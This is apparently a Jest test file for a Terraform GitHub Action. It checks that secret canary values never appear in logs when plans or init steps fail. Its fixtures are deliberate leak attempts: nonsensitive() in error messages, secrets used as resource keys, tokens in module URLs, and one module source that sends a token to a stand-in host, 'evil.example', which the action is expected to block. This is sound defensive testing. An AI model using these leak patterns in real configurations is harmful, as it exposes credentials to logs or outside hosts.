/** Plans that fail, with errors that repeat a secret: whatever can be seen of the step holds no canary. */
import { execFile } from 'node:child_process'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { describe, expect, test } from '@jest/globals'
import { openRig, roleArn } from '@wrenchproof/playground/rig'
import { canaryOf, leaks, readingsOf } from '../../../packages/plan/test/canaries.ts'
import { seenOf } from './seen.ts'

const action = join(import.meta.dirname, '..')
const root = 'terraform/environments/dev'
const permissions = { contents: 'write', actions: 'read', 'pull-requests': 'write', 'id-token': 'write' } as const

interface Failure {
  readonly name: string
  /** Configuration, in which CANARY is the secret. */
  readonly main?: string
  readonly values?: string
  readonly inputs?: Readonly<Record<string, string>>
  readonly env?: Readonly<Record<string, string>>
  /** What the log says all the same. */
  readonly says: string
}

const sensitive = 'variable "pw" {\n  sensitive = true\n  default   = "CANARY"\n}\n'
const named = 'variable "db_password" {\n  default = "CANARY"\n}\n'

const failures: readonly Failure[] = [
  {
    name: 'a validation that repeats the value',
    main: `variable "pw" {
  sensitive = true
  default   = "CANARY"
  validation {
    condition     = length(var.pw) < 3
    error_message = "it is \${nonsensitive(var.pw)}."
  }
}
`,
    says: 'Invalid value for variable',
  },
  {
    name: 'a precondition that repeats the value',
    main: `${sensitive}resource "terraform_data" "a" {
  lifecycle {
    precondition {
      condition     = length(var.pw) < 3
      error_message = "it is \${base64encode(nonsensitive(var.pw))}"
    }
  }
}
`,
    says: 'Resource precondition failed',
  },
  {
    name: 'an address with the value as key',
    main: `${sensitive}resource "terraform_data" "a" {
  for_each = toset([nonsensitive(var.pw)])
  lifecycle {
    precondition {
      condition     = each.key == ""
      error_message = "no"
    }
  }
}
`,
    says: 'Resource precondition failed',
  },
  {
    name: 'a conversion of a value that nobody marked',
    main: `${named}output "x" {\n  value = tonumber(var.db_password)\n}\n`,
    says: 'Invalid function argument',
  },
  {
    name: 'a path made of the value',
    main: `${sensitive}output "x" {\n  value = file("/nowhere/\${urlencode("<\${nonsensitive(var.pw)}>")}")\n}\n`,
    says: 'Invalid function argument',
  },
  {
    name: 'an error of a provider',
    main: `${sensitive}data "aws_ssm_parameter" "x" {\n  name = "/\${nonsensitive(var.pw)}"\n}\n`,
    says: 'PLAN_FAILED',
  },
  {
    name: 'settings of the backend',
    inputs: { 'backend-config': 'bucket=acme-state\nkey=x\nregion=nowhere-CANARY\nsecret_key=CANARY' },
    says: 'INIT_FAILED',
  },
  {
    name: 'a setting that the backend does not have',
    inputs: { 'backend-config': 'bucket=acme-state\nkey=x\nregion=us-east-2\npassword=CANARY' },
    says: 'INIT_FAILED',
  },
  {
    name: 'a token in the address of a module',
    main: 'module "m" {\n  source = "git::https://oauth2:CANARY@127.0.0.1:1/acme/m.git"\n}\n',
    says: 'INIT_FAILED',
  },
  {
    name: 'a token in the address of a module from where none is allowed',
    main: 'module "m" {\n  source = "git::https://oauth2:CANARY@evil.example/m.git"\n}\n',
    says: 'UNSAFE_TREE',
  },
  {
    name: 'a token in the query of a module',
    main: 'module "m" {\n  source = "https://127.0.0.1:1/acme/m.zip?access_token=CANARY&archive=zip"\n}\n',
    says: 'INIT_FAILED',
  },
  {
    name: 'broken HCL beside the value',
    main: `${named}output "x" {\n  value = "CANARY\n}\n`,
    says: 'UNSAFE_TREE',
  },
  { name: 'a broken var file', main: named, values: 'db_password = "CANARY\n', says: 'UNSAFE_TREE' },
  {
    name: 'a var file of the wrong type',
    main: 'variable "db" {\n  type      = object({ port = number })\n  sensitive = true\n}\n',
    values: 'db = { port = "CANARY" }\n',
    says: 'PLAN_FAILED',
  },
  {
    name: 'a variable of the environment that is no HCL',
    main: 'variable "db" {\n  type      = object({ pw = string })\n  sensitive = true\n}\n',
    env: { TF_VAR_db: '{ pw = "CANARY"' },
    says: 'PLAN_FAILED',
  },
]

describe('a plan that fails', () => {
  test.each(failures)('by $name', async ({ name, main = '', values, inputs = {}, env = {}, says }) => {
    const canary = canaryOf(name)
    const filled = <T>(value: T): T => JSON.parse(JSON.stringify(value).replaceAll('CANARY', canary))
    await using rig = await openRig({
      environments: ['dev'],
      files: filled({
        'terraform/environments.yml': `environments:
  dev:
    branch: main
    approvals: 0
    region: us-east-2
    plan-role: ${roleArn('dev', 'plan')}
    apply-role: ${roleArn('dev', 'apply')}
    allow: { modules: ["127.0.0.1:1/acme", registry.terraform.io] }
`,
        [`${root}/main.tf`]: `terraform {\n  backend "s3" {}\n}\n${main}`,
        ...(values === undefined ? {} : { [`${root}/x.tfvars`]: values }),
      }),
    })
    await using machine = await rig.job({ name: 'deliver', environment: 'dev', permissions, env: filled(env) })
    const varFile: Record<string, string> = values === undefined ? {} : { 'var-file': 'x.tfvars' }
    const result = await machine.runner.runAction(action, { ...rig.inputs('dev'), ...varFile, ...filled(inputs) })
    expect(result.log).toContain(says)
    const seen = await seenOf(rig, machine, result)
    expect(Object.keys(seen).filter((channel) => leaks(canary, readingsOf(seen[channel] ?? '')))).toEqual([])
  })
})

describe('a step that fails before it has read its inputs', () => {
  const canary = canaryOf('early')
  const secrets = {
    'INPUT_PLAN-KEY': `key-${canary}`,
    'INPUT_GITHUB-TOKEN': `token-${canary}`,
    'INPUT_BACKEND-CONFIG': `secret_key=${canary}`,
    'INPUT_TERRAFORM-DOWNLOAD-BASE': `https://u:${canary}@127.0.0.1/x`,
    // In the wrong place, and longer than what is repeated of a wrong input.
    INPUT_STORE: `${'x'.repeat(70)}${canary}`,
    INPUT_ENVIRONMENT: 'dev',
    AWS_SECRET_ACCESS_KEY: canary,
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: canary,
  }
  const place = { PATH: process.env['PATH'] ?? '', HOME: '/nowhere' }
  const context = {
    GITHUB_REPOSITORY: 'acme/infra',
    GITHUB_REPOSITORY_ID: '42',
    GITHUB_SHA: 'a'.repeat(40),
    GITHUB_REF: 'refs/pull/1/merge',
    GITHUB_EVENT_NAME: 'pull_request',
    GITHUB_ACTOR: 'ada',
    GITHUB_RUN_ID: '1',
    GITHUB_RUN_ATTEMPT: '1',
    GITHUB_WORKFLOW_REF: 'acme/infra/.github/workflows/x.yml@refs/heads/main',
    GITHUB_SERVER_URL: 'https://github.com',
    GITHUB_WORKSPACE: tmpdir(),
    RUNNER_TEMP: tmpdir(),
  }

  test.each<[string, Readonly<Record<string, string>>, string]>([
    ['outside of a job', {}, 'this step does not run in a GitHub Actions job'],
    ['with inputs that cannot be used', context, 'the inputs of this step are not usable'],
    [
      'with an event that cannot be read',
      { ...context, INPUT_STORE: '', 'INPUT_TERRAFORM-DOWNLOAD-BASE': '', GITHUB_EVENT_PATH: '/nowhere' },
      'EVENT_UNREADABLE',
    ],
  ])('%s', async (_what, env, says) => {
    const bundle = join(action, 'dist', 'index.js')
    const child = promisify(execFile)(process.execPath, [bundle], { env: { ...place, ...secrets, ...env } })
    const { stdout, stderr } = await child.catch((error: { stdout: string; stderr: string }) => error)
    expect(stdout).toContain(says)
    const printed = `${stdout}\n${stderr}`.replaceAll(/^::add-mask::.*$/gmu, '')
    expect(leaks(canary, readingsOf(printed))).toBe(false)
  })
})
